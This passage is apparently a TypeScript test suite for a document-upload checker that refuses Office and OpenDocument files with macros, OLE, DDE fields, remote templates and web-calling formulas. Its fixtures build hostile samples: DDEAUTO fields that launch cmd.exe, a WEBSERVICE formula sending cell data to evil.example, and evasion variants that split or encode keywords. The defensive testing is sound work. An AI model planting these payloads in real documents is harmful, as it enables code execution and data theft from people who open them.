import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { checkUpload, type UploadCheck } from '../../src/domain/file-types.js';
import { refusalMessage } from '../../src/i18n/files.js';
import * as A from './active-samples.js';
import * as S from './samples.js';

/**
 * Office files refused for what they hold (issue 17, 2): each case below is a file made here with one
 * kind of active content, and each names what it is and the part it is in. The ordinary documents at
 * the end — links to the web, SUM, a table of contents — stay accepted.
 */

const MB = 1024 * 1024;
const limits = { maxBytes: 20 * MB };

interface Case {
  label: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  /** The refusal: active content of this kind (or macros/encrypted/damaged), in this part, with this detail. */
  kind: string;
  part?: string;
  detail?: string;
}

const OLE_REL = 'word/_rels/document.xml.rels';
const wordRels = (...rels: string[]) => ({ [OLE_REL]: A.relationships(...rels) });
const p = A.paragraph;
const dde = `c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"`;

const CASES: Case[] = [
  // Relationships to outside targets.
  {
    label: 'a DOCX that loads a remote template (attachedTemplate, external)',
    name: 'plantilla.docx',
    bytes: () =>
      A.wordDoc(p(A.run('Informe')), {
        parts: {
          'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`,
          'word/_rels/settings.xml.rels': A.relationships(A.rel('rId1', 'attachedTemplate', 'https://evil.example/plantilla.dotm')),
        },
      }),
    kind: 'remote_template',
    part: 'word/_rels/settings.xml.rels',
  },
  {
    label: 'a DOCX with a linked OLE object outside',
    name: 'ole.docx',
    bytes: () => A.wordDoc(p(A.run('x')), { parts: wordRels(A.rel('rId9', 'oleObject', 'file://\\\\evil\\share\\datos.xlsx')) }),
    kind: 'external_object',
    part: OLE_REL,
  },
  {
    label: 'a DOCX with a frame loaded from outside',
    name: 'frame.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        parts: { 'word/_rels/webSettings.xml.rels': A.relationships(A.rel('rId1', 'frame', 'https://evil.example/marco.html')) },
      }),
    kind: 'external_frame',
    part: 'word/_rels/webSettings.xml.rels',
  },
  {
    label: 'a DOCX with a subdocument outside',
    name: 'sub.docx',
    bytes: () => A.wordDoc(p(A.run('x')), { parts: wordRels(A.rel('rId3', 'subDocument', '\\\\evil\\share\\anexo.docx')) }),
    kind: 'external_subdocument',
    part: OLE_REL,
  },
  {
    label: 'an XLSX whose workbook links another workbook (externalLinkPath)',
    name: 'vinculo.xlsx',
    bytes: () =>
      A.workbook(['1+1'], {
        parts: {
          'xl/_rels/workbook.xml.rels': A.relationships(
            A.rel('rId1', 'worksheet', 'worksheets/sheet1.xml', false),
            A.rel('rId2', 'externalLinkPath', 'file:///C:/datos/otro.xlsx'),
          ),
        },
      }),
    kind: 'external_workbook',
    part: 'xl/_rels/workbook.xml.rels',
  },
  {
    label: 'a DOCX with a picture fetched from outside (a tracking pixel)',
    name: 'pixel.docx',
    bytes: () => A.wordDoc(p(A.run('x')), { parts: wordRels(A.rel('rId4', 'image', 'https://tracker.example/p.png')) }),
    kind: 'external_resource',
    part: OLE_REL,
    detail: 'image',
  },
  {
    label: 'a relationship marked External with an entity ("&#69;xternal")',
    name: 'entidad.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        parts: wordRels(
          A.rel('rId1', 'attachedTemplate', 'https://evil.example/t.dotm', false).replace('/>', ' TargetMode="&#69;xternal"/>'),
        ),
      }),
    kind: 'remote_template',
    part: OLE_REL,
  },
  {
    label: 'a relationship with a decoy TargetMode inside another attribute’s value',
    name: 'senuelo.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        parts: wordRels(
          `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm#x TargetMode='Internal'" TargetMode="External"/>`,
        ),
      }),
    kind: 'remote_template',
    part: OLE_REL,
  },
  {
    label: 'a relationship that says TargetMode twice (Internal, then External)',
    name: 'doble.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        parts: wordRels(
          A.rel('rId1', 'attachedTemplate', 'https://evil.example/t.dotm', false).replace(
            '/>',
            ' TargetMode="Internal" TargetMode="External"/>',
          ),
        ),
      }),
    kind: 'remote_template',
    part: OLE_REL,
  },

  // Content types.
  {
    label: 'a DOCX whose VBA has another name, declared by its content type',
    name: 'macro.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        types: '<Override PartName="/word/datos.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
        parts: { 'word/datos.xml': '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>' },
      }),
    kind: 'macros',
    part: '[Content_Types].xml',
  },
  {
    label: 'a DOCX with an OLE object declared by its content type',
    name: 'ole-tipo.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        types: '<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        parts: { 'word/embeddings/paquete.dat': 'Package' },
      }),
    kind: 'ole_object',
    part: '[Content_Types].xml',
  },
  {
    label: 'a DOCX with an ActiveX control declared by its content type',
    name: 'activex-tipo.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        types: '<Override PartName="/word/controles/c1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        parts: { 'word/controles/c1.xml': '<x/>' },
      }),
    kind: 'activex',
    part: '[Content_Types].xml',
  },
  {
    label: 'an XLSX with an external link declared by its content type',
    name: 'link-tipo.xlsx',
    bytes: () =>
      A.workbook(['1'], {
        types:
          '<Override PartName="/xl/vinculos/v1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
        parts: { 'xl/vinculos/v1.xml': '<externalLink/>' },
      }),
    kind: 'external_workbook',
    part: '[Content_Types].xml',
  },
  {
    label: 'an XLSX with a data connection (connections.xml)',
    name: 'conexion.xlsx',
    bytes: () =>
      A.workbook(['1'], {
        types:
          '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>',
        parts: { 'xl/connections.xml': '<connections/>' },
      }),
    kind: 'external_data',
    part: '[Content_Types].xml',
  },

  // Parts by name, and by what they are.
  {
    label: 'a DOCX with word/vbaProject.bin',
    name: 'vba.docx',
    bytes: () => A.wordDoc(p(A.run('x')), { parts: { 'word/vbaProject.bin': 'Attribute VB_Name = "x"' } }),
    kind: 'macros',
    part: 'word/vbaProject.bin',
  },
  {
    label: 'a DOCX with word/embeddings/oleObject1.bin',
    name: 'ole-nombre.docx',
    bytes: () => A.wordDoc(p(A.run('x')), { parts: { 'word/embeddings/oleObject1.bin': 'Package' } }),
    kind: 'ole_object',
    part: 'word/embeddings/oleObject1.bin',
  },
  {
    label: 'a DOCX with an activeX/ part',
    name: 'activex.docx',
    bytes: () => A.wordDoc(p(A.run('x')), { parts: { 'word/activeX/activeX1.xml': '<x/>' } }),
    kind: 'activex',
    part: 'word/activeX/activeX1.xml',
  },
  {
    label: 'an XLSX with an externalLinks/ part',
    name: 'externo.xlsx',
    bytes: () => A.workbook(['1'], { parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' } }),
    kind: 'external_workbook',
    part: 'xl/externalLinks/externalLink1.xml',
  },
  {
    label: 'a DOCX with an OLE compound file under another name (an old .doc embedded)',
    name: 'ole-cfb.docx',
    bytes: () => A.wordDoc(p(A.run('x')), { parts: { 'word/embeddings/Documento.doc': A.CFB } }),
    kind: 'ole_object',
    part: 'word/embeddings/Documento.doc',
  },
  {
    label: 'a DOCX with an ActiveX control described in XML (ax:ocx)',
    name: 'ocx.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        parts: {
          'word/controles/c1.xml':
            '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
        },
      }),
    kind: 'activex',
    part: 'word/controles/c1.xml',
  },

  // Word's fields.
  {
    label: 'a DOCX with DDEAUTO split across runs',
    name: 'dde.docx',
    bytes: () => A.wordDoc(p(A.field(' DDE', 'AUTO ', dde))),
    kind: 'dde',
    part: 'word/document.xml',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with ddeauto in lower case',
    name: 'dde-min.docx',
    bytes: () => A.wordDoc(p(A.field(` ddeauto ${dde}`))),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with DDE in a simple field (w:fldSimple)',
    name: 'dde-simple.docx',
    bytes: () => A.wordDoc(p(`<w:fldSimple w:instr=" DDE ${dde.replace(/"/g, '&quot;')}">${A.run('x')}</w:fldSimple>`)),
    kind: 'dde',
    detail: 'DDE',
  },
  {
    label: 'a DOCX with INCLUDETEXT',
    name: 'include.docx',
    bytes: () => A.wordDoc(p(A.field(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx" '))),
    kind: 'include_field',
    detail: 'INCLUDETEXT',
  },
  {
    label: 'a DOCX with INCLUDEPICTURE in a simple field',
    name: 'includepicture.docx',
    bytes: () => A.wordDoc(p('<w:fldSimple w:instr=\' INCLUDEPICTURE "https://tracker.example/p.png" \\d \'/>')),
    kind: 'include_field',
    detail: 'INCLUDEPICTURE',
  },
  {
    label: 'a DOCX whose field name is made by a nested QUOTE field (hidden DDE)',
    name: 'quote.docx',
    bytes: () =>
      A.wordDoc(
        p(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
          A.field('QUOTE 68 68 69 65 85 84 79'),
          `<w:r><w:instrText> ${dde}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ),
      ),
    kind: 'hidden_field',
  },
  {
    label: 'a DOCX with DDEAUTO behind a character reference (&#68;DEAUTO)',
    name: 'dde-ref.docx',
    bytes: () => A.wordDoc(p(A.field(`&#68;DEAUTO ${dde}`))),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with DDEAUTO in CDATA',
    name: 'dde-cdata.docx',
    bytes: () => A.wordDoc(p(`<w:r><w:instrText><![CDATA[DD]]><![CDATA[EAUTO ${dde}]]></w:instrText></w:r>`)),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with DDEAUTO under another prefix',
    name: 'dde-prefix.docx',
    bytes: () =>
      A.wordDoc(
        p(`<w:r><x:instrText xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">DDEAUTO ${dde}</x:instrText></w:r>`),
      ),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with LINK (an OLE link to a file)',
    name: 'link.docx',
    bytes: () => A.wordDoc(p(A.field(' LINK Excel.Sheet.12 "\\\\evil\\share\\datos.xlsx" "Hoja1!F1C1" \\a '))),
    kind: 'include_field',
    detail: 'LINK',
  },
  {
    label: 'a DOCX with INCLUDE (old name of INCLUDETEXT)',
    name: 'include-old.docx',
    bytes: () => A.wordDoc(p(A.field(' INCLUDE "x.docx" '))),
    kind: 'include_field',
    detail: 'INCLUDE',
  },
  {
    label: 'a DOCX with IMPORT (old name of INCLUDEPICTURE)',
    name: 'import.docx',
    bytes: () => A.wordDoc(p(A.field(' IMPORT "https://tracker.example/p.png" '))),
    kind: 'include_field',
    detail: 'IMPORT',
  },
  {
    label: 'a DOCX with DATABASE (a query to an outside database)',
    name: 'database.docx',
    bytes: () => A.wordDoc(p(A.field(' DATABASE \\d "C:\\\\datos.mdb" \\s "SELECT *" '))),
    kind: 'include_field',
    detail: 'DATABASE',
  },
  {
    label: 'a DOCX whose DDEAUTO field is never closed',
    name: 'dde-open.docx',
    bytes: () => A.wordDoc(p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', `<w:r><w:instrText>DDEAUTO ${dde}</w:instrText></w:r>`)),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX cut short inside DDEAUTO’s element (broken XML a program may repair)',
    name: 'dde-cut.docx',
    bytes: () =>
      A.wordDoc('', {
        parts: {
          'word/document.xml': `<w:document ${'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'}><w:body><w:p><w:r><w:instrText>DDEAUTO ${dde}`,
        },
      }),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with DDEAUTO cut between two 1 MB pieces, in its tag',
    name: 'dde-split-tag.docx',
    bytes: () => A.wordDoc(A.atPieceEnd(p(A.run('x')), '<w:r><w:instrT', `ext>DDEAUTO ${dde}</w:instrText></w:r>`)),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with DDEAUTO cut between two 1 MB pieces, in its text',
    name: 'dde-split-text.docx',
    bytes: () => A.wordDoc(A.atPieceEnd(p(A.run('x')), '<w:r><w:instrText>DDE', `AUTO ${dde}</w:instrText></w:r>`)),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with DDEAUTO split by a comment',
    name: 'dde-comment.docx',
    bytes: () => A.wordDoc(p(`<w:r><w:instrText>DD<!-- > -->EAUTO ${dde}</w:instrText></w:r>`)),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX whose parts are stored, not deflated',
    name: 'dde-stored.docx',
    bytes: () => A.wordDoc(p(A.field(`DDEAUTO ${dde}`)), { stored: true }),
    kind: 'dde',
    detail: 'DDEAUTO',
  },
  {
    label: 'a DOCX with DDEAUTO in a header, in UTF-16',
    name: 'dde-utf16.docx',
    bytes: () =>
      A.wordDoc(p(A.run('x')), {
        parts: {
          'word/header1.xml': Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from(
              `<?xml version="1.0" encoding="UTF-16"?><w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${p(A.field(`DDEAUTO ${dde}`))}</w:hdr>`,
              'utf16le',
            ),
          ]),
        },
      }),
    kind: 'dde',
    part: 'word/header1.xml',
    detail: 'DDEAUTO',
  },

  // Excel's formulas.
  {
    label: "an XLSX with cmd|' /C calc'!A0 (DDE)",
    name: 'dde.xlsx',
    bytes: () => A.workbook(['SUM(1,1)', 'cmd|&apos; /C calc&apos;!A0']),
    kind: 'dde',
    part: 'xl/worksheets/sheet1.xml',
  },
  {
    label: 'an XLSX with WEBSERVICE',
    name: 'web.xlsx',
    bytes: () => A.workbook(['_xlfn.WEBSERVICE(&quot;https://evil.example/?d=&quot;&amp;B1)']),
    kind: 'web_formula',
    detail: 'WEBSERVICE',
  },
  {
    label: 'an XLSX with FILTERXML over the web',
    name: 'filterxml.xlsx',
    bytes: () => A.workbook(['_xlfn.FILTERXML(&quot;https://evil.example/feed.xml&quot;,&quot;//item&quot;)']),
    kind: 'web_formula',
    detail: 'FILTERXML',
  },
  {
    label: 'an XLSX with IMAGE from the web',
    name: 'image.xlsx',
    bytes: () => A.workbook(['_xlfn.IMAGE(&quot;https://tracker.example/p.png&quot;)']),
    kind: 'web_formula',
    detail: 'IMAGE',
  },
  {
    label: 'an XLSX with HYPERLINK',
    name: 'hyperlink.xlsx',
    bytes: () => A.workbook(['HYPERLINK(&quot;https://evil.example/&quot;,&quot;Ver acta&quot;)']),
    kind: 'hyperlink_formula',
  },
  {
    label: 'an XLSX with a reference to another workbook ([1]Hoja1!A1)',
    name: 'ref.xlsx',
    bytes: () => A.workbook(['[1]Hoja1!A1*2']),
    kind: 'external_workbook',
    part: 'xl/worksheets/sheet1.xml',
  },
  {
    label: "an XLSX with '[1]Hoja de datos'!A1",
    name: 'ref2.xlsx',
    bytes: () => A.workbook(['SUM(&apos;[1]Hoja de datos&apos;!A1:A3)']),
    kind: 'external_workbook',
  },
  {
    label: 'an XLSX whose defined name points to another workbook',
    name: 'nombre.xlsx',
    bytes: () =>
      A.workbook(['1'], {
        workbookXml: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Hoja1" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="Meta">[1]Hoja1!$A$1</definedName></definedNames></workbook>`,
      }),
    kind: 'external_workbook',
    part: 'xl/workbook.xml',
  },
  {
    label: 'an XLSX with DDE in a data validation',
    name: 'validacion.xlsx',
    bytes: () =>
      A.workbook([], {
        sheetXml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>cmd|'/c calc'!A0</formula1></dataValidation></dataValidations></worksheet>`,
      }),
    kind: 'dde',
  },
  {
    label: 'an XLSX with WEBSERVICE in a validation’s second bound (formula2)',
    name: 'validacion2.xlsx',
    bytes: () =>
      A.workbook([], {
        sheetXml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><dataValidations count="1"><dataValidation type="whole" operator="between" sqref="A1"><formula1>1</formula1><formula2>_xlfn.WEBSERVICE("https://evil.example/")</formula2></dataValidation></dataValidations></worksheet>`,
      }),
    kind: 'web_formula',
    detail: 'WEBSERVICE',
  },
  {
    label: 'an XLSX with WEBSERVICE in a conditional format',
    name: 'formato.xlsx',
    bytes: () =>
      A.workbook([], {
        sheetXml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>LEN(_xlfn.WEBSERVICE("https://evil.example/"))&gt;0</formula></cfRule></conditionalFormatting></worksheet>`,
      }),
    kind: 'web_formula',
    detail: 'WEBSERVICE',
  },

  // OpenDocument.
  {
    label: 'an ODT with a Basic/ library',
    name: 'basic.odt',
    bytes: () => A.openDoc('text', A.odtBody(''), { parts: { 'Basic/Standard/Module1.xml': '<script:module/>' } }),
    kind: 'macros',
    part: 'Basic/Standard/Module1.xml',
  },
  {
    label: 'an ODT with a Scripts/ folder',
    name: 'scripts.odt',
    bytes: () => A.openDoc('text', A.odtBody(''), { parts: { 'Scripts/python/x.py': 'import os' } }),
    kind: 'macros',
    part: 'Scripts/python/x.py',
  },
  {
    label: 'an ODT with a script in office:scripts',
    name: 'script.odt',
    bytes: () =>
      A.openDoc('text', A.odtBody(''), { head: '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>' }),
    kind: 'scripts',
    part: 'content.xml',
  },
  {
    label: 'an ODT with an event listener on open',
    name: 'evento.odt',
    bytes: () =>
      A.openDoc('text', A.odtBody(''), {
        head: '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:Basic" script:event-name="dom:load" script:macro-name="Standard.Module1.Main"/></office:event-listeners></office:scripts>',
      }),
    kind: 'scripts',
  },
  {
    label: 'an ODT with a link that runs a macro',
    name: 'enlace-macro.odt',
    bytes: () =>
      A.openDoc(
        'text',
        A.odtBody(
          '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application">clic</text:a></text:p>',
        ),
      ),
    kind: 'scripts',
  },
  {
    label: 'an ODT with an object loaded from outside (draw:object)',
    name: 'objeto.odt',
    bytes: () =>
      A.openDoc(
        'text',
        A.odtBody('<text:p><draw:frame><draw:object xlink:href="https://evil.example/objeto" xlink:type="simple"/></draw:frame></text:p>'),
      ),
    kind: 'external_object',
    part: 'content.xml',
  },
  {
    label: 'an ODT with an OLE object inside (draw:object-ole)',
    name: 'ole.odt',
    bytes: () => A.openDoc('text', A.odtBody('<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>')),
    kind: 'ole_object',
  },
  {
    label: 'an ODT with an object one folder up (../)',
    name: 'objeto-arriba.odt',
    bytes: () =>
      A.openDoc('text', A.odtBody('<text:p><draw:frame><draw:object xlink:href="../objetos/grafico.odg"/></draw:frame></text:p>')),
    kind: 'external_object',
  },
  {
    label: 'an ODT with an OLE object outside (draw:object-ole)',
    name: 'ole-fuera.odt',
    bytes: () =>
      A.openDoc('text', A.odtBody('<text:p><draw:frame><draw:object-ole xlink:href="\\\\evil\\share\\x.doc"/></draw:frame></text:p>')),
    kind: 'external_object',
  },
  {
    label: 'an ODT with a plug-in (draw:plugin)',
    name: 'plugin.odt',
    bytes: () =>
      A.openDoc(
        'text',
        A.odtBody('<text:p><draw:frame><draw:plugin xlink:href="Plugin 1" draw:mime-type="application/x-evil"/></draw:frame></text:p>'),
      ),
    kind: 'embedded_program',
    detail: 'plugin',
  },
  {
    label: 'an ODT with a frame loaded from outside (draw:floating-frame)',
    name: 'marco.odt',
    bytes: () =>
      A.openDoc(
        'text',
        A.odtBody('<text:p><draw:frame><draw:floating-frame xlink:href="https://evil.example/marco.html"/></draw:frame></text:p>'),
      ),
    kind: 'external_frame',
  },
  {
    label: 'an ODT with a Java applet (draw:applet)',
    name: 'applet.odt',
    bytes: () => A.openDoc('text', A.odtBody('<text:p><draw:frame><draw:applet draw:code="Evil.class"/></draw:frame></text:p>')),
    kind: 'embedded_program',
    detail: 'applet',
  },
  {
    label: 'an ODT with a section taken from another file (text:section-source)',
    name: 'seccion.odt',
    bytes: () =>
      A.openDoc('text', A.odtBody('<text:section text:name="S1"><text:section-source xlink:href="file:///C:/anexo.odt"/></text:section>')),
    kind: 'external_subdocument',
  },
  {
    label: 'an ODT with a picture fetched from outside',
    name: 'pixel.odt',
    bytes: () =>
      A.openDoc('text', A.odtBody('<text:p><draw:frame><draw:image xlink:href="https://tracker.example/p.png"/></draw:frame></text:p>')),
    kind: 'external_resource',
    detail: 'image',
  },
  {
    label: 'an ODT with a DDE connection (text:dde-connection-decl)',
    name: 'dde.odt',
    bytes: () =>
      A.openDoc(
        'text',
        A.odtBody(
          '<text:variable-decls/><text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>',
        ),
      ),
    kind: 'dde',
  },
  {
    label: 'an ODT section fed by DDE (office:dde-source)',
    name: 'dde-seccion.odt',
    bytes: () =>
      A.openDoc(
        'text',
        A.odtBody(
          '<text:section text:name="S1"><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:section>',
        ),
      ),
    kind: 'dde',
  },
  {
    label: 'an ODS with a DDE link (table:dde-link)',
    name: 'dde.ods',
    bytes: () =>
      A.openDoc(
        'spreadsheet',
        '<office:spreadsheet><table:dde-links><table:dde-link><table:table table:name="cmd"/></table:dde-link></table:dde-links></office:spreadsheet>',
      ),
    kind: 'dde',
  },
  {
    label: 'an ODS with of:=DDE(…)',
    name: 'dde-formula.ods',
    bytes: () =>
      A.openDoc(
        'spreadsheet',
        A.odsCells('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)"/>'),
      ),
    kind: 'dde',
  },
  {
    label: 'an ODS with of:=WEBSERVICE(…)',
    name: 'web.ods',
    bytes: () =>
      A.openDoc('spreadsheet', A.odsCells('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>')),
    kind: 'web_formula',
    detail: 'WEBSERVICE',
  },
  {
    label: 'an ODS with HYPERLINK',
    name: 'hyperlink.ods',
    bytes: () =>
      A.openDoc('spreadsheet', A.odsCells('<table:table-cell table:formula="of:=HYPERLINK(&quot;https://evil.example/&quot;)"/>')),
    kind: 'hyperlink_formula',
  },
  {
    label: "an ODS with a reference to another file ('file:///…'#$Hoja1.A1)",
    name: 'ref.ods',
    bytes: () => A.openDoc('spreadsheet', A.odsCells(`<table:table-cell table:formula="of:=['file:///C:/datos/otro.ods'#$Hoja1.A1]"/>`)),
    kind: 'external_workbook',
  },
  {
    label: 'an ODS with a range linked to another file (table:cell-range-source)',
    name: 'rango.ods',
    bytes: () =>
      A.openDoc(
        'spreadsheet',
        '<office:spreadsheet><table:table table:name="H"><table:table-row><table:table-cell><table:cell-range-source table:name="R" xlink:href="file:///C:/otro.ods" table:filter-name="calc8" table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell></table:table-row></table:table></office:spreadsheet>',
      ),
    kind: 'external_workbook',
  },
  {
    label: 'an ODS with WEBSERVICE in a covered cell',
    name: 'cubierta.ods',
    bytes: () =>
      A.openDoc('spreadsheet', A.odsCells('<table:covered-table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>')),
    kind: 'web_formula',
    detail: 'WEBSERVICE',
  },
  {
    label: 'an ODS with a named expression calling WEBSERVICE',
    name: 'nombre.ods',
    bytes: () =>
      A.openDoc(
        'spreadsheet',
        '<office:spreadsheet><table:named-expressions><table:named-expression table:name="x" table:base-cell-address="$H.$A$1" table:expression="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/></table:named-expressions></office:spreadsheet>',
      ),
    kind: 'web_formula',
    detail: 'WEBSERVICE',
  },
  {
    label: 'an ODS with DDE in a validation condition',
    name: 'validacion.ods',
    bytes: () =>
      A.openDoc(
        'spreadsheet',
        '<office:spreadsheet><table:content-validations><table:content-validation table:name="v" table:condition="of:cell-content-is-in-list(DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;))"/></table:content-validations></office:spreadsheet>',
      ),
    kind: 'dde',
  },
  {
    label: 'an ODS with a table linked to another file (table:table-source)',
    name: 'tabla.ods',
    bytes: () =>
      A.openDoc(
        'spreadsheet',
        '<office:spreadsheet><table:table table:name="H"><table:table-source xlink:href="https://evil.example/datos.ods"/></table:table></office:spreadsheet>',
      ),
    kind: 'external_workbook',
  },
  {
    label: 'an ODT that is encrypted (manifest:encryption-data)',
    name: 'cifrado.odt',
    bytes: () =>
      A.openDoc('text', A.odtBody(''), { manifest: '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/>' }),
    kind: 'encrypted',
    part: 'META-INF/manifest.xml',
  },
];

function refusal(r: UploadCheck): { code: string; params: Record<string, string | number> } {
  assert.equal(r.ok, false, `expected a refusal, got ${JSON.stringify(r)}`);
  if (r.ok) throw new Error('unreachable');
  return { code: r.code, params: r.params };
}

describe('office files: active content refused by what the parts hold, naming it', () => {
  for (const c of CASES) {
    test(c.label, async () => {
      const r = refusal(await checkUpload(c.name, await c.bytes(), limits));
      const kind = r.code === 'active_content' ? r.params.kind : r.code;
      assert.equal(kind, c.kind, JSON.stringify(r));
      if (c.part) assert.equal(r.params.part, c.part, JSON.stringify(r));
      if (c.detail) assert.equal(r.params.detail, c.detail, JSON.stringify(r));
      // The words name the file and the part, in both languages.
      for (const lang of ['es', 'en'] as const) {
        const words = refusalMessage({ code: r.code as 'active_content', params: r.params }, lang);
        assert.ok(
          words.includes(c.name) && (['damaged', 'encrypted'].includes(r.code) || words.includes(String(r.params.part))),
          `${lang}: ${words}`,
        );
        assert.ok(!words.includes('undefined') && !words.includes('active content ('), `${lang}: ${words}`);
      }
    });
  }

  test('the message says what was found, as the probe reported it', async () => {
    const r = refusal(await checkUpload('plantilla.docx', await CASES[0]!.bytes(), limits));
    assert.equal(
      refusalMessage({ code: 'active_content', params: r.params }, 'es'),
      'El documento «plantilla.docx» carga una plantilla remota (word/_rels/settings.xml.rels): no se aceptan documentos que ejecutan programas o traen contenido de fuera. Quítelo, o guarde el documento como PDF, y envíelo de nuevo',
    );
    const d = refusal(await checkUpload('dde.docx', A.wordDoc(A.paragraph(A.field(`DDEAUTO ${dde}`))), limits));
    assert.match(
      refusalMessage({ code: 'active_content', params: d.params }, 'en'),
      /^The document “dde\.docx” has a DDE link \(DDEAUTO\), which can run programs \(word\/document\.xml\)/,
    );
    const w = refusal(await checkUpload('web.xlsx', A.workbook(['_xlfn.WEBSERVICE(&quot;https://x.example/&quot;)']), limits));
    assert.match(
      refusalMessage({ code: 'active_content', params: w.params }, 'es'),
      /tiene una fórmula WEBSERVICE que consulta la web \(xl\/worksheets\/sheet1\.xml\)/,
    );
  });

  test('ordinary documents stay accepted: web links, SUM, a table of contents, page numbers, a table column named 2019', async () => {
    for (const [name, bytes] of [
      ['Informe.docx', await A.cleanDocx()],
      ['Avance.xlsx', await A.cleanXlsx()],
      ['Informe.odt', A.cleanOdt()],
      ['Avance.ods', A.cleanOds()],
      [
        'Campos.docx',
        A.wordDoc(
          A.paragraph(A.field(' HYPERLINK "https://www.gob.pe/link/include/dde" '), A.field(' PAGE '), A.field(' TOC \\o "1-3" \\h ')),
        ),
      ],
      [
        'Hojas.xlsx',
        A.workbook([
          'SUM(&apos;Hoja de datos&apos;!A1:A3)',
          'Metas[[#This Row],[2019]]*2',
          'IF(A1&gt;0,&quot;cmd|x&quot;,&quot;[1]&quot;)',
          'SUM(Tabla1[2019])',
        ]),
      ],
      [
        'Enlaces.docx',
        A.wordDoc(A.paragraph(A.run('x')), {
          parts: {
            'word/_rels/document.xml.rels': A.relationships(
              A.rel('rId1', 'hyperlink', 'https://www.gob.pe/'),
              A.rel('rId2', 'hyperlink', 'mailto:pcm@gob.pe'),
              A.rel('rId3', 'image', 'media/image1.png', false),
            ),
          },
        }),
      ],
    ] as const) {
      const r = await checkUpload(name, bytes, limits);
      assert.ok(r.ok, `${name}: ${JSON.stringify(r)}`);
    }
  });

  test('the clean samples really hold what they are said to: external hyperlinks, SUM, fields', async () => {
    // jszip is in node_modules through docx and mammoth (as test/report/docx-xml.ts uses it).
    const { default: JSZip } = await import('jszip');
    const d = await JSZip.loadAsync(await A.cleanDocx());
    assert.match(
      await d.file('word/_rels/document.xml.rels')!.async('string'),
      /hyperlink" Target="https:\/\/www\.gob\.pe[^"]*" TargetMode="External"/,
    );
    assert.match(await d.file('word/document.xml')!.async('string'), /instrText[^>]*>TOC/);
    const x = await JSZip.loadAsync(await A.cleanXlsx());
